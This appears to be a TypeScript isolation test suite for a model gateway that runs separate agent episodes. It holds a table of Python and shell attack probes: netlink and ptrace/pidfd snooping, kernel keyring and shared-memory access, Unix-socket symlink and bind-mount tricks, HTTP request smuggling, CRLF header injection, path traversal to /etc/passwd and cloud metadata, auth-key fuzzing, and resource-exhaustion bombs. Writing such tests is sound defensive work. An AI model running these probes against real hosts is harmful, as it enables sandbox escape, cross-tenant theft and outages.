/** Values that commands of attacks contain: the key of the other episode, of one that has ended, and the folder of the host with the sockets of episodes. */
export interface Targets {
  readonly OTHER: string;
  readonly ENDED: string;
  readonly SOCKETS: string;
}

/** Text that only the other episode has. */
export const SECRET = "secret-of-the-other";

/** Returns a command that runs a program in Python. */
const python = (code: string): string => `python3 - <<'END'\n${code}\nEND`;

/** Functions of programs: `raw` sends bytes to the gateway and returns the statuses of the responses, `syscall` makes one. */
const COMMON = `
import ctypes, http.client, json, os, re, select, socket, struct, time
own = os.environ["OPENAI_API_KEY"]
def raw(data, seconds=5):
    got = b""
    with socket.create_connection(("127.0.0.1", 61000)) as s:
        s.settimeout(seconds)
        try:
            s.sendall(data)
            while True:
                part = s.recv(65536)
                if not part: break
                got += part
        except OSError: pass
    return got
def statuses(got):
    return [int(each) for each in re.findall(rb"HTTP/1.1 (\\d+)", got)]
def head(method, path, key, *more):
    return "\\r\\n".join([method + " " + path + " HTTP/1.1", "host: a", "authorization: Bearer " + key, *more, "", ""]).encode()
def get(path, key=own, **headers):
    c = http.client.HTTPConnection("127.0.0.1", 61000, timeout=10)
    c.request("GET", path, headers={"authorization": "Bearer " + key, **headers})
    return c.getresponse()
def post(body, key=own, path="/v1/chat/completions", **headers):
    c = http.client.HTTPConnection("127.0.0.1", 61000, timeout=50)
    c.request("POST", path, body if isinstance(body, bytes) else json.dumps(body).encode(), {"authorization": "Bearer " + key, "content-type": "application/json", **headers})
    return c.getresponse()
def syscall(number, *given):
    return ctypes.CDLL(None, use_errno=True).syscall(number, *given)
def through(holds):
    if holds: print("THROUGH")
`;
const attack = (code: string): string => python(`${COMMON}\n${code}`);
const ask = '{"model": "a", "messages": [{"role": "user", "content": "q"}]}';

/** Attacks on other episodes and on the host by other means than files and keys. Each prints THROUGH where it succeeds. */
export const ATTACKS: Readonly<Record<string, string>> = {
  "lists of sockets by netlink": attack(`
s = socket.socket(16, socket.SOCK_RAW, 4)
s.bind((0, 0)); s.settimeout(3)
s.send(struct.pack("=IHHII", 40, 20, 0x301, 1, 0) + struct.pack("=BBHIIIII", 1, 0, 0, 0xffffffff, 0, 0x3f, 0, 0))
try: through(b"${SECRET}" in s.recv(1 << 20))
except OSError: pass`),
  "the loopback address of IPv6": attack(`
for address in ["::1", "::ffff:127.0.0.1", "fe80::1%lo"]:
    for port in [22, 80, 3000, 7001, 8000, 9090]:
        try: through(socket.create_connection((address, port), 1))
        except OSError: pass`),
  "names of the network": attack(`
try: through(socket.getaddrinfo("example.com", 80))
except OSError: pass
servers = re.findall(r"nameserver (\\S+)", open("/etc/resolv.conf").read()) if os.path.exists("/etc/resolv.conf") else []
for server in [*servers, "127.0.0.53", "169.254.169.254", "224.0.0.251"]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    try:
        s.sendto(bytes.fromhex("0001010000010000000000000765787" + "8616d706c6503636f6d0000010001"), (server, 53)); through(s.recv(99))
    except (OSError, ValueError): pass`),
  "memory that processes share": attack(`
through(syscall(29, 0x6d726c6d, 4096, 0o1666) >= 0)
through(any(syscall(30, each, None, 0) >= 0 for each in range(64)))
through(syscall(240, b"/mrlm", 0o102, 0o666, None) >= 0)
through("${SECRET}" in "".join(os.listdir("/dev/shm")))`),
  "keys of the kernel": attack(`
for ring in [-1, -2, -3, -4, -5]:
    through(syscall(248, b"user", b"mrlm", b"x", 1, ring) >= 0 or syscall(250, 10, ring, b"user", b"mrlm", 0) >= 0 or syscall(249, b"user", b"mrlm", None, ring) >= 0)
for path in ["/proc/keys", "/proc/key-users"]:
    try: through(open(path).read())
    except OSError: pass`),
  "calls of the kernel with a ring": attack(`
ring = ctypes.create_string_buffer(120)
through(syscall(425, 8, ring) >= 0 or syscall(426, 3, 1, 0, 0, None, 0) >= 0 or syscall(427, -1, 13, ring, 1) >= 0)
through(syscall(323, 0) >= 0 or os.path.exists("/dev/userfaultfd"))`),
  "a trace of the process of the address": attack(`
for pid in range(1, 400):
    if pid == os.getpid(): continue
    through(syscall(101, 16, pid, 0, 0) >= 0 or syscall(101, 0x4206, pid, 0, 0) >= 0)
    pidfd = syscall(434, pid, 0)
    if pidfd >= 0: through(any(syscall(438, pidfd, each, 0) >= 0 for each in range(16)))`),
  "links in place of sockets": attack(`
os.makedirs("/tmp/m", exist_ok=True)
for at, target in enumerate(["/mrlm", "/mrlm/..", "/proc/1/root/mrlm", "/proc/self/root/../../tmp", "SOCKETS", "/proc/1/cwd"]):
    link = "/tmp/m/%d" % at
    os.symlink(target, link)
    try:
        for each in os.listdir(link):
            if each == "socket": continue
            s = socket.socket(socket.AF_UNIX)
            try: s.connect(link + "/" + each); through(True)
            except OSError: pass
    except OSError: pass`),
  "the paths of sockets of the host":
    "ls SOCKETS 2>/dev/null && echo THROUGH; for s in $(find / -name '*.sock' -o -type s 2>/dev/null | grep -v ^/mrlm/socket$); do curl -s -m 2 --unix-socket $s http://a/ && echo THROUGH; done; curl -s -m 2 --unix-socket SOCKETS/0 http://a/v1/models && echo THROUGH; true",
  "descriptors that programs inherit": attack(`
import glob, stat
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        kind = os.stat(path).st_mode
        if int(path.split("/")[2]) != os.getpid() and stat.S_ISSOCK(kind): through(True)
        # Pipes and files of the program alone, and no folder: openat would lead from it to the host.
        if stat.S_ISDIR(kind): through(not os.readlink(path).startswith(("/workspace", "/proc/")))
    except OSError: pass`),
  "each setting of the kernel": attack(`
for top in ["/proc/sys", "/proc/irq", "/proc/bus", "/proc/acpi", "/sys"]:
    for folder, _, names in os.walk(top):
        for name in names:
            try: os.close(os.open(folder + "/" + name, os.O_WRONLY)); through(True)
            except OSError: pass`),
  "a mount over the socket":
    "touch s; for how in '' 'unshare -rm' 'unshare -rmp --fork' 'bwrap --dev-bind / /' 'nsenter -t 1 -m'; do $how mount --bind s /mrlm/socket 2>/dev/null && echo THROUGH; done; true",
  "keys that resemble the key of the other": attack(`
key = "OTHER"
near = [key[:-1], key + "0", key.upper(), " " + key, key + ",", key + "\\t", key[:20] + "%00" + key[20:], "Bearer " + key, key + ", " + own, key[5:], "*", "", "undefined", "__proto__", "constructor"]
for each in near:
    for name in ["authorization", "x-api-key"]:
        try: through(get("/v1/models", "" if name == "x-api-key" else each, **{"x-api-key": each}).status != 401 if name == "x-api-key" else get("/v1/models", each).status != 401)
        except (ValueError, OSError, http.client.HTTPException): pass
for name in ["cookie", "proxy-authorization", "x-mrlm-agent", "x-forwarded-authorization"]:
    through(get("/v1/models", "", **{name: "Bearer OTHER"}).status != 401)
for path in ["/v1/models?api_key=OTHER", "/OTHER/v1/models", "/v1/models#OTHER"]: through(get(path, "").status != 401)`),
  "a key of an ended episode": attack(`
for path, version in [("/v1/chat/completions", {}), ("/v1/responses", {}), ("/v1/messages", {"anthropic-version": "2023-06-01"})]:
    for headers in [{}, {"x-api-key": "ENDED"}, {"x-stainless-retry-count": "1"}]:
        through(post(${ask}, "ENDED", path, **version, **headers).status != 401)
through(get("/v1/models", "ENDED").status != 401)`),
  "requests in requests, by two lengths": attack(`
inner = head("GET", "/v1/models", "OTHER").decode()
body = "0\\r\\n\\r\\n" + inner
forms = [["content-length: %d" % len(body), "transfer-encoding: chunked"], ["transfer-encoding: chunked", "content-length: 4"], ["content-length: 0", "content-length: %d" % len(body)],
    ["transfer-encoding: xchunked", "content-length: 0"], ["transfer-encoding: chunked, identity"], ["transfer-encoding : chunked", "content-length: 0"], ["content-length: +0"], ["content-length: 0x0"], ["x: a\\n" + inner], [" folded: a", "content-length: 0"]]
for key in [own, "OTHER", ""]:
    for more in forms: through(200 in statuses(raw(head("POST", "/v1/chat/completions", key, *more) + body.encode(), 1)))`),
  "requests behind each other with two keys": attack(`
got = statuses(raw(b"".join(head("GET", "/v1/models", each) for each in [own, "OTHER", own, "ENDED"] * 3), 2))
through(got != [200, 401, 200, 401] * 3)`),
  "lines of headers in values": attack(`
for value in ["a\\r\\nx-through: 1\\r\\n\\r\\nHTTP/1.1 200 OK", "a\\nset-cookie: a=b", "\\u560d\\u560ax-through: 1"]:
    r = post({"model": value, "messages": [{"role": "user", "content": "q"}], "user": value, "metadata": {"x": value}, "stream": False})
    through(r.getheader("x-through") or r.getheader("set-cookie"))
    r = post({"model": "a", "messages": [], value: 1}); through(r.getheader("x-through") or r.getheader("set-cookie") or r.status < 400)
    got = raw(("GET /v1/" + value + " HTTP/1.1\\r\\nhost: a\\r\\n\\r\\n").encode(), 1); through(b"x-through: 1" in got.split(b"\\r\\n\\r\\n")[0])`),
  "headers above the limit": attack(`
for more in [["x: " + "a" * 70000], ["x%d: a" % i for i in range(20000)], ["authorization: " + "a" * 17000], ["x" * 70000 + ": a"]]:
    through(200 in statuses(raw(head("GET", "/v1/models", own, *more), 3)))
through(200 in statuses(raw(b"GET /" + b"a" * 200000 + b" HTTP/1.1\\r\\n\\r\\n", 3)))
through(get("/v1/models").status != 200)`),
  "other paths of routes": attack(`
for path in ["/v1/../v1/responses/../../etc/passwd", "//v1//models", "/v1/models/..%2f..%2f..%2fetc/passwd", "/v1/%2e%2e/metrics", "/metrics", "/v1/episodes", "/v1/sessions", "/healthz", "/v1/models/OTHER", "/v1/models/__proto__",
    "/v1/files", "/v1/responses/resp_0", "/v1/chat/completions/chatcmpl-0", "/v1/models\\\\..", "/v1/models/a%00", "*", "/.git/config", "file:///etc/passwd", "http://169.254.169.254/latest"]:
    got = raw(head("GET", path, own, "connection: close"), 3)
    through(200 in statuses(got) or b"root:" in got)`),
  "slow bodies": attack(`
held = []
for i in range(200):
    s = socket.create_connection(("127.0.0.1", 61000)); s.sendall(head("POST", "/v1/chat/completions", own if i % 2 else "OTHER", "content-length: 5000") + b"{"); held.append(s)
begin = time.time(); through(get("/v1/models").status != 200 or time.time() - begin > 10)
for s in held:
    try: s.sendall(b" ")
    except OSError: pass
begin = time.time(); through(get("/v1/models").status != 200 or time.time() - begin > 10)`),
  "members of prototypes": attack(`
evil = ['"__proto__": {"polluted": 1}', '"constructor": {"prototype": {"polluted": 1}}', '"metadata": {"__proto__": {"polluted": 1}}', '"tools": [{"type": "function", "function": {"name": "__proto__", "parameters": {"__proto__": {"polluted": 1}}}}]']
for each in evil:
    for base, path in [('"messages": [{"role": "user", "content": "q"}]', "/v1/chat/completions"), ('"input": "q"', "/v1/responses")]:
        post(('{"model": "__proto__", %s, %s}' % (base, each)).encode(), path=path).read()`),
  "bodies that expand": attack(`
import gzip, zlib
bomb = gzip.compress(b" " * 50_000_000 + json.dumps(${ask}).encode())
for data, name in [(bomb, "gzip"), (zlib.compress(bomb), "deflate"), (bomb, "br"), (bomb, "zstd")]: through(post(data, **{"content-encoding": name}).status < 400)
begin = time.time(); through(get("/v1/models").status != 200 or time.time() - begin > 10)`),
  "the answer of the other by its call": attack(`
for headers in [{"x-stainless-retry-count": "1"}, {"idempotency-key": "OTHER"}, {"x-mrlm-agent": "OTHER"}]:
    through(b"${SECRET}" in post({"model": "agent", "messages": [{"role": "user", "content": "OTHER"}]}, **headers).read())
    through(post({"model": "agent", "input": "q", "previous_response_id": "resp_0"}, path="/v1/responses", **headers).status < 400)`),
  "bodies that take the host's time": attack(`
q = {"role": "user", "content": "q"}
d = {"d%d" % i: {"anyOf": [{"$ref": "#/$defs/d%d" % (i + 1)}] * 3} for i in range(40)}
bodies = [{"messages": [q] + [{"role": "assistant", "content": "a"}] * 60000 + [q]}, {"messages": [q] + [{"role": "assistant", "content": "a"}] * 18000 + [q]},
    {"messages": [q], "response_format": {"type": "json_schema", "json_schema": {"name": "a", "schema": {"$defs": {**d, "d40": {"type": "number"}}, "$ref": "#/$defs/d0"}}}},
    {"messages": [{"role": "user", "content": [{"type": "text", "text": "a"}] * 60000}]}, {"messages": [q], "stop": ["a" * 100000] * 16}]
for body in bodies: post({"model": "a", **body}).read()
for text in [b"[" * 2000000, b'{"a":' * 400000, b'{"messages": ' + b"9" * 2000000 + b"}"]: through(post(text).status < 400)`),
  "memory of the kernel by sockets": attack(`
held, total = [], 0
for family in [socket.AF_UNIX, socket.AF_INET]:
    listener = socket.create_server(("127.0.0.1", 0), backlog=1000)
    try:
        for i in range(250):
            if family == socket.AF_UNIX: a, b = socket.socketpair(family, socket.SOCK_DGRAM)
            else: a = socket.create_connection(listener.getsockname()); b = listener.accept()[0]
            held += [a, b]
            for each in [a, b]:
                for option in [7, 8, 32, 33]:
                    try: each.setsockopt(socket.SOL_SOCKET, option, 1 << 26)
                    except OSError: pass
                each.setblocking(False)
                try:
                    while True: total += each.send(bytes(60000))
                except OSError: pass
    except OSError: pass
through(total > 500_000_000)`),
  "what one user may watch": attack(`
count = 0
while count < 100 and syscall(253) >= 0: count += 1
through(count >= 100)`),
};
